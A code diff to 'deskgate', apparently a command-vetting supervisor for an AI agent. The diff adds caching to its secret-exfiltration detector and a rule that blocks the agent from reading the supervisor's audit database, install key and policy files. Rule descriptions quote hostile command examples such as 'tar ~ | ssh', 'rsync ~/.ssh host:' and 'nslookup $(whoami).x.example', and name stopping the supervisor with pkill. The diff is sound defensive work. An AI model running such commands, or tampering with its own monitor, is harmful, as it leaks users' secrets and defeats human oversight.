@@ -286,6 +286,10 @@ class Detector:
         self.confirm_file_deletes = policy.confirm_file_deletes
         self.depth = 0  # how deep a variable's value is being judged as a command (bounded)
         self.run = functools.lru_cache(maxsize=4096)(self._run)
+        # what command i of an analysis reads that is secret: asked by every command downstream of it in a
+        # pipeline (up to UPSTREAM_WINDOW of them), computed once (analyses hash by identity)
+        self.secret_read_at = functools.lru_cache(maxsize=8192)(
+            lambda analysis, i: self.reads_secret(analysis.commands[i]))
         self.grouped = functools.lru_cache(maxsize=4096)(
             lambda analysis, field: _grouped(self.run(analysis), analysis.source, field))
 
@@ -1395,7 +1399,6 @@ class Detector:
 
     def exfil_source(self, cmd: Command, analysis: ShellAnalysis) -> str | None:
         """What secret a network-sending command carries out, if any."""
-        cmds = analysis.commands
         name = cmd.name
         words = cmd.argv[1:]
         for op, target in cmd.redirects:
@@ -1408,12 +1411,12 @@ class Detector:
             if hit:
                 return hit
         for i in cmd.subst:
-            hit = self.reads_secret(cmds[i])
+            hit = self.secret_read_at(analysis, i)
             if hit:
                 return hit
         if name in _NET_TOOLS or name in ("curl", "curlie", "http", "https", "xh", "wget", "wget2", "ftp"):
             for i in cmd.upstream:
-                hit = self.reads_secret(cmds[i])
+                hit = self.secret_read_at(analysis, i)
                 if hit:
                     return hit
         if name in ("scp", "rsync", "sftp") and any(re.match(r"^([\w.-]+@)?[\w.-]+:", a) for a in words):
@@ -1772,6 +1775,11 @@ RULES: tuple[Rule, ...] = (
           "`serve`, `run`, `revoke`, `log prune`, any verb not known to be harmless), stops deskgate (pkill, "
           "systemctl stop), or writes, deletes, moves or re-permissions deskgate's config, policy, kill state, "
           "socket or audit files (`[files] supervisor_paths` and the XDG directories)."),
+    _make("block.shell.supervisor-read", "reads deskgate's own files", Risk.CRITICAL,
+          "The agent prints, copies, archives, searches or opens deskgate's audit database (and its WAL), its "
+          "install key, chain head, kill state or policy (`cat`, `sqlite3`, `cp`, `tar`, `base64`, `< file`), "
+          "or copies, archives or searches a directory that holds them (`cp -r ~/.local/state`, `tar ~/.config`"
+          ", `grep -r x $XDG_STATE_HOME`). Listing or stat-ing them (`ls`, `stat`, `du`) passes."),
     _make("block.shell.exfiltration", "data sent off the machine", Risk.CRITICAL,
           "A whole home directory or a key directory archived or copied to a network sink (tar ~ | ssh, "
           "rsync ~/.ssh host:), DNS lookups or URLs built from command output (nslookup $(whoami).x.example, "
